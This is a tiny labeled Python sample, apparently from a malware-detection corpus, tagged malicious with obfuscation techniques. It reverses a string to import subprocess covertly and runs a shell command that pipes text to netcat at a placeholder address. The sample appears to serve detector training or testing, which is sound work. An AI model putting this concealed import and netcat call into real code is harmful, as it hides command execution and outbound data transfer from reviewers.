# label: malicious family=obfuscation techniques=T1027,T1059.004,T1140 lines=3-5
import importlib
n = "".join(reversed("ssecorpbus"))
sp = importlib.import_module(n)
sp.Popen(["sh", "-c", "echo pytriage-corpus | nc 192.0.2.3 80"])
